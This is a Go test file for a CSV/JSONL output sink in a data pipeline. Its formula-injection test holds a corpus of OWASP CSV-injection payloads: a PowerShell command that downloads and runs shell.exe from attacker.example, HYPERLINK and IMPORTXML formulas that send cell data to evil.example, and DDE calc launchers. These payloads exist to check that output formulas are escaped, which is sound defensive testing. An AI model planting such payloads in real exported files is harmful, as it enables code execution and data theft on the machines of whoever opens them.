package filesink_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"

	"github.com/contactbatch/batch/pipeline"
	"github.com/contactbatch/batch/sinks/filesink"
)

var schema = pipeline.Schema{
	Input:  []string{"email", "name", "company"},
	Result: []string{"verdict", "reason"},
}

// output returns row i of a test run: line i+2, distinct values.
func output(i int) *pipeline.Output {
	return &pipeline.Output{
		Seq:    int64(i),
		Line:   int64(i + 2),
		Origin: "in.csv",
		Values: []string{fmt.Sprintf("u%d@example.com", i), fmt.Sprintf("User, \"%d\"", i), "Acme\nInc"},
		Result: []string{"deliverable", ""},
	}
}

func opts(f filesink.Format) filesink.Options {
	o := filesink.DefaultOptions()
	o.Format = f
	o.Schema = schema
	return o
}

func write(t *testing.T, s interface {
	Write(context.Context, *pipeline.Output) error
}, from, to int) {
	t.Helper()
	for i := from; i < to; i++ {
		if err := s.Write(context.Background(), output(i)); err != nil {
			t.Fatalf("Write(%d) = %v", i, err)
		}
	}
}

func commit(t *testing.T, s pipeline.Sink) pipeline.Position {
	t.Helper()
	pos, err := s.Commit(context.Background())
	if err != nil {
		t.Fatalf("Commit() = %v", err)
	}
	return pos
}

func readCSV(t *testing.T, path string) [][]string {
	t.Helper()
	f, err := os.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	recs, err := csv.NewReader(f).ReadAll()
	if err != nil {
		t.Fatalf("read back %s: %v", path, err)
	}
	return recs
}

// wantCSV is the CSV content for rows [0, n).
func wantCSV(n int) [][]string {
	recs := [][]string{append(append([]string(nil), schema.Input...), schema.Result...)}
	for i := range n {
		o := output(i)
		recs = append(recs, append(append([]string(nil), o.Values...), o.Result...))
	}
	return recs
}

type jsonRow struct {
	Line   int64             `json:"line"`
	Input  map[string]string `json:"input"`
	Result map[string]string `json:"result"`
}

func readJSONL(t *testing.T, path string) []jsonRow {
	t.Helper()
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if !utf8.Valid(data) {
		t.Errorf("%s is not valid UTF-8", path)
	}
	var rows []jsonRow
	for n, l := range bytes.Split(bytes.TrimSuffix(data, []byte("\n")), []byte("\n")) {
		if len(data) == 0 {
			break
		}
		var r jsonRow
		if err := json.Unmarshal(l, &r); err != nil {
			t.Fatalf("line %d %q: %v", n+1, l, err)
		}
		rows = append(rows, r)
	}
	return rows
}

func wantJSONL(n int) []jsonRow {
	var rows []jsonRow
	for i := range n {
		o := output(i)
		rows = append(rows, jsonRow{
			Line:   o.Line,
			Input:  map[string]string{"email": o.Values[0], "name": o.Values[1], "company": o.Values[2]},
			Result: map[string]string{"verdict": "deliverable"},
		})
	}
	return rows
}

func TestFormatFor(t *testing.T) {
	tests := []struct {
		path    string
		want    filesink.Format
		wantErr bool
	}{
		{"out.csv", filesink.CSV, false},
		{"dir.x/OUT.CSV", filesink.CSV, false},
		{"out.jsonl", filesink.JSONL, false},
		{"out.ndjson", filesink.JSONL, false},
		{"-", filesink.CSV, false},
		{"out.csv.gz", 0, true},
		{"out.jsonl.zst", 0, true},
		{"out.txt", 0, true},
		{"out", 0, true},
	}
	for _, tt := range tests {
		t.Run(tt.path, func(t *testing.T) {
			got, err := filesink.FormatFor(tt.path)
			if tt.wantErr {
				if !errors.Is(err, filesink.ErrUnsupportedFormat) {
					t.Errorf("FormatFor(%q) error = %v, want ErrUnsupportedFormat", tt.path, err)
				}
				return
			}
			if err != nil || got != tt.want {
				t.Errorf("FormatFor(%q) = %v, %v, want %v", tt.path, got, err, tt.want)
			}
		})
	}
}

func TestParseFormat(t *testing.T) {
	tests := []struct {
		in      string
		want    filesink.Format
		wantErr bool
	}{
		{"csv", filesink.CSV, false},
		{"JSONL", filesink.JSONL, false},
		{"ndjson", filesink.JSONL, false},
		{"xlsx", 0, true},
	}
	for _, tt := range tests {
		got, err := filesink.ParseFormat(tt.in)
		if (err != nil) != tt.wantErr || got != tt.want {
			t.Errorf("ParseFormat(%q) = %v, %v", tt.in, got, err)
		}
		if err == nil && got.String() != strings.ToLower(strings.Replace(tt.in, "ndjson", "jsonl", 1)) {
			t.Errorf("%v.String() = %q", got, got.String())
		}
	}
}

func TestCSVRoundTrip(t *testing.T) {
	path := filepath.Join(t.TempDir(), "out.csv")
	s, err := filesink.Open(path, opts(filesink.CSV), "")
	if err != nil {
		t.Fatal(err)
	}
	write(t, s, 0, 100)
	if got := s.Rows(); got != 100 {
		t.Errorf("Rows() = %d, want 100", got)
	}
	if err := s.Close(context.Background()); err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(wantCSV(100), readCSV(t, path)); diff != "" {
		t.Errorf("content (-want +got):\n%s", diff)
	}
}

func TestJSONLRoundTrip(t *testing.T) {
	path := filepath.Join(t.TempDir(), "out.jsonl")
	s, err := filesink.Open(path, opts(filesink.JSONL), "")
	if err != nil {
		t.Fatal(err)
	}
	write(t, s, 0, 100)
	if err := s.Close(context.Background()); err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(wantJSONL(100), readJSONL(t, path)); diff != "" {
		t.Errorf("content (-want +got):\n%s", diff)
	}
}

func TestJSONLKeyOrder(t *testing.T) {
	sc := pipeline.Schema{
		Input:  []string{"z", "a", "a", "m", "a_2", "a"},
		Result: []string{"verdict", "score", "email_status"},
	}
	o := filesink.DefaultOptions()
	o.Format, o.Schema = filesink.JSONL, sc
	path := filepath.Join(t.TempDir(), "out.jsonl")
	s, err := filesink.Open(path, o, "")
	if err != nil {
		t.Fatal(err)
	}
	out := &pipeline.Output{
		Line:   7,
		Values: []string{"1", "2", "3", "4", "5", "6"},
		Result: []string{"risky", "", "ok"},
		Nested: []pipeline.Field{
			{Name: "email", Value: json.RawMessage("{\n  \"zeta\": 1,\n  \"alpha\": [1, 2]\n}")},
			{Name: "person", Value: nil},
			{Name: "organization", Value: json.RawMessage(`{"b":true,"a":null}`)},
		},
	}
	if err := s.Write(context.Background(), out); err != nil {
		t.Fatal(err)
	}
	if err := s.Close(context.Background()); err != nil {
		t.Fatal(err)
	}
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	want := `{"line":7,"input":{"z":"1","a":"2","a_3":"3","m":"4","a_2":"5","a_4":"6"},` +
		`"email":{"zeta":1,"alpha":[1,2]},"person":null,"organization":{"b":true,"a":null},` +
		`"result":{"verdict":"risky","email_status":"ok"}}` + "\n"
	if string(data) != want {
		t.Errorf("line =\n%s\nwant\n%s", data, want)
	}
}

// TestRejectsContent checks the reject file's columns, its formula escape
// and its mode (the conformance suite checks its resume).
func TestRejectsContent(t *testing.T) {
	path := filepath.Join(t.TempDir(), "rejects.csv")
	r, err := filesink.OpenRejects(path, "")
	if err != nil {
		t.Fatal(err)
	}
	for i := range 3 {
		rej := &pipeline.Reject{Seq: int64(i), Line: int64(i + 2), Origin: "s3://b/k.csv", Reason: "ragged row", Raw: fmt.Sprintf("=cmd|%d,\"x\"", i)}
		if err := r.WriteReject(context.Background(), rej); err != nil {
			t.Fatal(err)
		}
	}
	if err := r.Close(context.Background()); err != nil {
		t.Fatal(err)
	}
	want := [][]string{filesink.RejectsHeader()}
	for i := range 3 {
		want = append(want, []string{strconv.Itoa(i + 2), "s3://b/k.csv", "ragged row", fmt.Sprintf("'=cmd|%d,\"x\"", i)})
	}
	if diff := cmp.Diff(want, readCSV(t, path)); diff != "" {
		t.Errorf("content (-want +got):\n%s", diff)
	}
	fi, err := os.Stat(path)
	if err != nil {
		t.Fatal(err)
	}
	if fi.Mode().Perm()&0o077 != 0 {
		t.Errorf("rejects mode = %v, want no group or other access", fi.Mode().Perm())
	}
}

func TestPositionMismatch(t *testing.T) {
	tests := []struct {
		name  string
		setup func(t *testing.T, path string) pipeline.Position
	}{
		{"partial shorter than position", func(t *testing.T, path string) pipeline.Position {
			s := openCommitted(t, path, 3)
			pos := commit(t, s)
			s.Release()
			n, _ := strconv.Atoi(string(pos))
			return pipeline.Position(strconv.Itoa(n + 1))
		}},
		{"partial missing", func(t *testing.T, path string) pipeline.Position {
			return "100"
		}},
		{"not a number", func(t *testing.T, path string) pipeline.Position { return "abc" }},
		{"negative", func(t *testing.T, path string) pipeline.Position { return "-5" }},
		{"inside the header", func(t *testing.T, path string) pipeline.Position {
			s := openCommitted(t, path, 3)
			s.Release()
			return "3"
		}},
		{"published file too short", func(t *testing.T, path string) pipeline.Position {
			s := openCommitted(t, path, 3)
			pos := commit(t, s)
			s.Close(context.Background())
			n, _ := strconv.Atoi(string(pos))
			return pipeline.Position(strconv.Itoa(n + 1))
		}},
		{"published file of another schema", func(t *testing.T, path string) pipeline.Position {
			if err := os.WriteFile(path, []byte(strings.Repeat("a,b,c\n", 100)), 0o644); err != nil {
				t.Fatal(err)
			}
			return "100"
		}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			path := filepath.Join(t.TempDir(), "out.csv")
			pos := tt.setup(t, path)
			before, _ := os.ReadFile(path)
			s, err := filesink.Open(path, opts(filesink.CSV), pos)
			if !errors.Is(err, filesink.ErrPositionMismatch) {
				if s != nil {
					s.Release()
				}
				t.Fatalf("Open at %q = %v, want ErrPositionMismatch", pos, err)
			}
			after, _ := os.ReadFile(path)
			if !bytes.Equal(before, after) {
				t.Errorf("a failed Open changed %s", path)
			}
		})
	}
}

func openCommitted(t *testing.T, path string, rows int) *filesink.Sink {
	t.Helper()
	s, err := filesink.Open(path, opts(filesink.CSV), "")
	if err != nil {
		t.Fatal(err)
	}
	write(t, s, 0, rows)
	return s
}

func TestResumeForeignFileJSONL(t *testing.T) {
	path := filepath.Join(t.TempDir(), "out.jsonl")
	if err := os.WriteFile(path, []byte(strings.Repeat(`{"other":1}`+"\n", 20)), 0o644); err != nil {
		t.Fatal(err)
	}
	if _, err := filesink.Open(path, opts(filesink.JSONL), "100"); !errors.Is(err, filesink.ErrPositionMismatch) {
		t.Errorf("Open over a foreign file = %v, want ErrPositionMismatch", err)
	}
	if _, err := os.Stat(path); err != nil {
		t.Errorf("foreign file moved: %v", err)
	}
}

func TestFormulaInjection(t *testing.T) {
	// OWASP CSV Injection payloads, plus every trigger character and
	// payloads that try to start a new cell after a quote or separator.
	corpus := []string{
		"=1+2",
		"=1+2\";=1+2",
		"=1+2'\" ;,=1+2",
		"=cmd|' /C calc'!A0",
		"=cmd|'/C powershell IEX(wget attacker.example/shell.exe)'!A0",
		"@SUM(1+9)*cmd|' /C calc'!A0",
		"=HYPERLINK(\"http://evil.example?x=\"&A1,\"Click\")",
		"+1+2",
		"-2+3+cmd|' /C calc'!A0",
		"-1",
		"@A1",
		"\t=1+2",
		"\r=1+2",
		"\n=1+2",
		"=IMPORTXML(CONCAT(\"http://evil.example/?v=\", CONCATENATE(A2:E2)), \"//a\")",
		"=DDE(\"cmd\";\"/C calc\";\"!A0\")A0",
		"\"=1+2\"",
		"a,=1+2",
		"a\"\n=1+2",
		"x;=1+2",
		"safe",
		"'=already quoted",
		"",
		" =1+2",
		"a@b.example",
	}
	dangerous := func(s string) bool { return s != "" && strings.ContainsRune("=+-@\t\r\n", rune(s[0])) }
	sc := pipeline.Schema{Input: []string{"=in", "plain"}, Result: []string{"+res"}}
	for _, escape := range []bool{true, false} {
		t.Run(fmt.Sprintf("escape=%v", escape), func(t *testing.T) {
			o := filesink.DefaultOptions()
			o.Schema, o.EscapeFormulas = sc, escape
			path := filepath.Join(t.TempDir(), "out.csv")
			s, err := filesink.Open(path, o, "")
			if err != nil {
				t.Fatal(err)
			}
			for i, p := range corpus {
				out := &pipeline.Output{Line: int64(i + 2), Values: []string{p, "x" + p}, Result: []string{p}}
				if err := s.Write(context.Background(), out); err != nil {
					t.Fatal(err)
				}
			}
			if err := s.Close(context.Background()); err != nil {
				t.Fatal(err)
			}
			recs := readCSV(t, path)
			if len(recs) != len(corpus)+1 {
				t.Fatalf("read %d records, want %d", len(recs), len(corpus)+1)
			}
			wantHeader := []string{"=in", "plain", "+res"}
			if escape {
				wantHeader = []string{"'=in", "plain", "'+res"}
			}
			if diff := cmp.Diff(wantHeader, recs[0]); diff != "" {
				t.Errorf("header (-want +got):\n%s", diff)
			}
			var escaped int
			for i, p := range corpus {
				want := p
				if escape && dangerous(p) {
					want = "'" + p
					escaped++
				}
				got := recs[i+1]
				if got[0] != want || got[2] != want || got[1] != "x"+p {
					t.Errorf("payload %q: got %q, want %q", p, got, want)
				}
				if escape && dangerous(got[0]) {
					t.Errorf("payload %q written unescaped", p)
				}
			}
			if escape && escaped < 15 {
				t.Errorf("only %d dangerous payloads in the corpus", escaped)
			}
		})
	}
}

func TestAtomicPublish(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "out.csv")
	old := []byte("old,finished\nfile,here\n")
	if err := os.WriteFile(path, old, 0o644); err != nil {
		t.Fatal(err)
	}
	s := openCommitted(t, path, 10)
	commit(t, s)
	if got, _ := os.ReadFile(path); !bytes.Equal(got, old) {
		t.Errorf("the earlier file changed before Close: %q", got)
	}
	if err := s.Close(context.Background()); err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(wantCSV(10), readCSV(t, path)); diff != "" {
		t.Errorf("content (-want +got):\n%s", diff)
	}
	entries, err := os.ReadDir(dir)
	if err != nil {
		t.Fatal(err)
	}
	if len(entries) != 1 || entries[0].Name() != "out.csv" {
		t.Errorf("directory holds %v, want only out.csv", entries)
	}
	if err := s.Close(context.Background()); err != nil {
		t.Errorf("second Close() = %v, want nil", err)
	}
	if err := s.Write(context.Background(), output(0)); !errors.Is(err, filesink.ErrClosed) {
		t.Errorf("Write after Close = %v, want ErrClosed", err)
	}
	if _, err := s.Commit(context.Background()); !errors.Is(err, filesink.ErrClosed) {
		t.Errorf("Commit after Close = %v, want ErrClosed", err)
	}
}

// A reader polling the final path while it is published again and again
// sees either nothing or a complete file.
func TestAtomicPublishConcurrentReader(t *testing.T) {
	path := filepath.Join(t.TempDir(), "out.csv")
	const publishes = 200
	done := make(chan struct{})
	errs := make(chan error, 1)
	go func() {
		defer close(errs)
		var reads int
		for {
			select {
			case <-done:
				return
			default:
			}
			data, err := os.ReadFile(path)
			if errors.Is(err, os.ErrNotExist) {
				continue
			}
			if err != nil {
				errs <- err
				return
			}
			reads++
			recs, err := csv.NewReader(bytes.NewReader(data)).ReadAll()
			if err != nil || len(recs) < 2 || recs[len(recs)-1][0] != "end" {
				errs <- fmt.Errorf("read %d: partial file seen: %q", reads, data)
				return
			}
		}
	}()
	sc := pipeline.Schema{Input: []string{"v"}}
	o := filesink.DefaultOptions()
	o.Schema, o.Sync = sc, false
	for i := range publishes {
		s, err := filesink.Open(path, o, "")
		if err != nil {
			t.Fatal(err)
		}
		for j := range 50 + i {
			if err := s.Write(context.Background(), &pipeline.Output{Values: []string{strconv.Itoa(j)}}); err != nil {
				t.Fatal(err)
			}
			if j == 20 {
				commit(t, s)
			}
		}
		if err := s.Write(context.Background(), &pipeline.Output{Values: []string{"end"}}); err != nil {
			t.Fatal(err)
		}
		if err := s.Close(context.Background()); err != nil {
			t.Fatal(err)
		}
	}
	close(done)
	if err := <-errs; err != nil {
		t.Error(err)
	}
}

func TestStdout(t *testing.T) {
	f, err := os.Create(filepath.Join(t.TempDir(), "stdout"))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	saved := os.Stdout
	os.Stdout = f
	defer func() { os.Stdout = saved }()
	t.Chdir(t.TempDir())

	s, err := filesink.Open("-", opts(filesink.CSV), "")
	if err != nil {
		t.Fatal(err)
	}
	write(t, s, 0, 10)
	pos := commit(t, s)
	os.Stdout = saved
	data, err := os.ReadFile(f.Name())
	if err != nil {
		t.Fatal(err)
	}
	if string(pos) != strconv.Itoa(len(data)) {
		t.Errorf("position %s, want the %d bytes written", pos, len(data))
	}
	write(t, s, 10, 12)
	if err := s.Close(context.Background()); err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(wantCSV(12), readCSV(t, f.Name())); diff != "" {
		t.Errorf("content (-want +got):\n%s", diff)
	}
	if _, err := f.Write(nil); err != nil {
		t.Errorf("Close closed stdout: %v", err)
	}
	entries, _ := os.ReadDir(".")
	if len(entries) != 0 {
		t.Errorf("stdout mode created files: %v", entries)
	}
}

func TestInvalidUTF8(t *testing.T) {
	bad := []string{"caf\xe9", "\xff\xfe", "nul\x00byte", "ok\u2028line", "\x00=1+2"}
	for _, f := range []filesink.Format{filesink.CSV, filesink.JSONL} {
		t.Run(f.String(), func(t *testing.T) {
			sc := pipeline.Schema{Input: []string{"bad\xff"}, Result: []string{"r"}}
			o := filesink.DefaultOptions()
			o.Format, o.Schema = f, sc
			path := filepath.Join(t.TempDir(), "out")
			s, err := filesink.Open(path, o, "")
			if err != nil {
				t.Fatal(err)
			}
			for _, v := range bad {
				out := &pipeline.Output{Values: []string{v}, Result: []string{v},
					Nested: []pipeline.Field{{Name: "email", Value: json.RawMessage("{\"k\":\"v\xff\"}")}}}
				if err := s.Write(context.Background(), out); err != nil {
					t.Fatal(err)
				}
			}
			if err := s.Close(context.Background()); err != nil {
				t.Fatal(err)
			}
			data, err := os.ReadFile(path)
			if err != nil {
				t.Fatal(err)
			}
			if !utf8.Valid(data) {
				t.Errorf("output is not valid UTF-8: %q", data)
			}
			if f == filesink.CSV {
				if bytes.IndexByte(data, 0) >= 0 {
					t.Errorf("raw NUL in CSV output")
				}
				recs := readCSV(t, path)
				want := []string{"caf\uFFFD", "\uFFFD\uFFFD", "nul\uFFFDbyte", "ok\u2028line", "\uFFFD=1+2"}
				for i, w := range want {
					if recs[i+1][0] != w {
						t.Errorf("cell %d = %q, want %q", i, recs[i+1][0], w)
					}
				}
				return
			}
			lines := bytes.Split(bytes.TrimSuffix(data, []byte("\n")), []byte("\n"))
			if len(lines) != len(bad) {
				t.Fatalf("%d lines, want %d", len(lines), len(bad))
			}
			for i, l := range lines {
				var v struct {
					Input map[string]string
					Email map[string]string
				}
				if err := json.Unmarshal(l, &v); err != nil {
					t.Fatalf("line %d %q: %v", i, l, err)
				}
				quoted, _ := json.Marshal(bad[i])
				var want string
				json.Unmarshal(quoted, &want)
				if v.Input["bad\uFFFD"] != want || v.Email["k"] != "v\uFFFD" {
					t.Errorf("line %d input = %q, want %q", i, v.Input, want)
				}
			}
		})
	}
}

func TestWriteErrors(t *testing.T) {
	tests := []struct {
		name   string
		format filesink.Format
		out    *pipeline.Output
		is     error
	}{
		{"too few values", filesink.CSV, &pipeline.Output{Values: []string{"a"}, Result: []string{"", ""}}, filesink.ErrSchemaMismatch},
		{"too many results", filesink.JSONL, &pipeline.Output{Values: []string{"a", "b", "c"}, Result: []string{"", "", ""}}, filesink.ErrSchemaMismatch},
		{"invalid nested JSON", filesink.JSONL, &pipeline.Output{Values: []string{"a", "b", "c"}, Result: []string{"", ""},
			Nested: []pipeline.Field{{Name: "email", Value: json.RawMessage(`{"a":`)}}}, nil},
		{"reserved nested name", filesink.JSONL, &pipeline.Output{Values: []string{"a", "b", "c"}, Result: []string{"", ""},
			Nested: []pipeline.Field{{Name: "result", Value: json.RawMessage(`1`)}}}, nil},
		{"repeated nested name", filesink.JSONL, &pipeline.Output{Values: []string{"a", "b", "c"}, Result: []string{"", ""},
			Nested: []pipeline.Field{{Name: "x", Value: json.RawMessage(`1`)}, {Name: "x", Value: json.RawMessage(`2`)}}}, nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			s, err := filesink.OpenWriter(io.Discard, opts(tt.format), "")
			if err != nil {
				t.Fatal(err)
			}
			err = s.Write(context.Background(), tt.out)
			if err == nil || tt.is != nil && !errors.Is(err, tt.is) {
				t.Errorf("Write() = %v, want an error (%v)", err, tt.is)
			}
			if s.Rows() != 0 {
				t.Errorf("Rows() = %d after a failed write", s.Rows())
			}
		})
	}
}

func TestOpenErrors(t *testing.T) {
	o := opts(filesink.CSV)
	o.Schema = pipeline.Schema{}
	if _, err := filesink.OpenWriter(io.Discard, o, ""); err == nil {
		t.Error("Open with an empty CSV schema succeeded")
	}
	o = opts(filesink.Format(9))
	if _, err := filesink.OpenWriter(io.Discard, o, ""); !errors.Is(err, filesink.ErrUnsupportedFormat) {
		t.Errorf("Open with Format(9) = %v, want ErrUnsupportedFormat", err)
	}
	if _, err := filesink.Open(filepath.Join(t.TempDir(), "no", "dir.csv"), opts(filesink.CSV), ""); err == nil {
		t.Error("Open in a missing directory succeeded")
	}
}

func TestSingleEmptyColumn(t *testing.T) {
	o := filesink.DefaultOptions()
	o.Schema = pipeline.Schema{Input: []string{"v"}}
	path := filepath.Join(t.TempDir(), "out.csv")
	s, err := filesink.Open(path, o, "")
	if err != nil {
		t.Fatal(err)
	}
	for _, v := range []string{"a", "", "b", ""} {
		if err := s.Write(context.Background(), &pipeline.Output{Values: []string{v}}); err != nil {
			t.Fatal(err)
		}
	}
	if err := s.Close(context.Background()); err != nil {
		t.Fatal(err)
	}
	want := [][]string{{"v"}, {"a"}, {""}, {"b"}, {""}}
	if diff := cmp.Diff(want, readCSV(t, path)); diff != "" {
		t.Errorf("content (-want +got):\n%s", diff)
	}
}

func TestMode(t *testing.T) {
	dir := t.TempDir()
	o := opts(filesink.CSV)
	o.Mode = 0o640
	path := filepath.Join(dir, "out.csv")
	s, err := filesink.Open(path, o, "")
	if err != nil {
		t.Fatal(err)
	}
	if err := s.Close(context.Background()); err != nil {
		t.Fatal(err)
	}
	fi, err := os.Stat(path)
	if err != nil {
		t.Fatal(err)
	}
	if fi.Mode().Perm()&^0o640 != 0 {
		t.Errorf("mode = %v, want within 0640", fi.Mode().Perm())
	}
}

func FuzzJSONLString(f *testing.F) {
	for _, s := range []string{"", "a", "\"\\", "\x00\x1f\x7f", "é\u2028\u2029", "\xff", "a\xe2\x82", "<&>", "\U0001F600"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		var buf bytes.Buffer
		o := filesink.DefaultOptions()
		o.Format, o.Schema = filesink.JSONL, pipeline.Schema{Input: []string{s}, Result: []string{"r"}}
		sk, err := filesink.OpenWriter(&buf, o, "")
		if err != nil {
			t.Fatal(err)
		}
		if err := sk.Write(context.Background(), &pipeline.Output{Values: []string{s}, Result: []string{s}}); err != nil {
			t.Fatal(err)
		}
		if err := sk.Close(context.Background()); err != nil {
			t.Fatal(err)
		}
		line := buf.Bytes()
		if bytes.Count(line, []byte("\n")) != 1 || !utf8.Valid(line) {
			t.Fatalf("bad line %q", line)
		}
		var v struct {
			Input  map[string]string
			Result map[string]string
		}
		if err := json.Unmarshal(line, &v); err != nil {
			t.Fatalf("%q: %v", line, err)
		}
		// encoding/json's own decoding of s is the reference.
		quoted, _ := json.Marshal(s)
		var want string
		if err := json.Unmarshal(quoted, &want); err != nil {
			t.Fatal(err)
		}
		if got := v.Input[want]; got != want {
			t.Errorf("input[%q] = %q, want %q (line %q)", want, got, want, line)
		}
	})
}

type failWriter struct{}

func (failWriter) Write([]byte) (int, error) { return 0, errors.New("disk full") }

func TestStreamWriteFailure(t *testing.T) {
	s, err := filesink.OpenWriter(failWriter{}, opts(filesink.CSV), "")
	if err != nil {
		t.Fatal(err)
	}
	write(t, s, 0, 1) // buffered
	if _, err := s.Commit(context.Background()); err == nil || !strings.Contains(err.Error(), "disk full") {
		t.Errorf("Commit() = %v, want the write error", err)
	}
	if err := s.Close(context.Background()); err == nil {
		t.Error("Close() after a failed write = nil, want an error")
	}
}

func TestCanceledContext(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	s, err := filesink.OpenWriter(io.Discard, opts(filesink.CSV), "")
	if err != nil {
		t.Fatal(err)
	}
	if err := s.Write(ctx, output(0)); !errors.Is(err, context.Canceled) {
		t.Errorf("Write() = %v, want context.Canceled", err)
	}
	if _, err := s.Commit(ctx); !errors.Is(err, context.Canceled) {
		t.Errorf("Commit() = %v, want context.Canceled", err)
	}
	r, err := filesink.OpenRejects(filepath.Join(t.TempDir(), "rej.csv"), "")
	if err != nil {
		t.Fatal(err)
	}
	defer r.Release()
	if err := r.WriteReject(ctx, &pipeline.Reject{}); !errors.Is(err, context.Canceled) {
		t.Errorf("WriteReject() = %v, want context.Canceled", err)
	}
	if _, err := r.Commit(ctx); !errors.Is(err, context.Canceled) {
		t.Errorf("Rejects.Commit() = %v, want context.Canceled", err)
	}
}
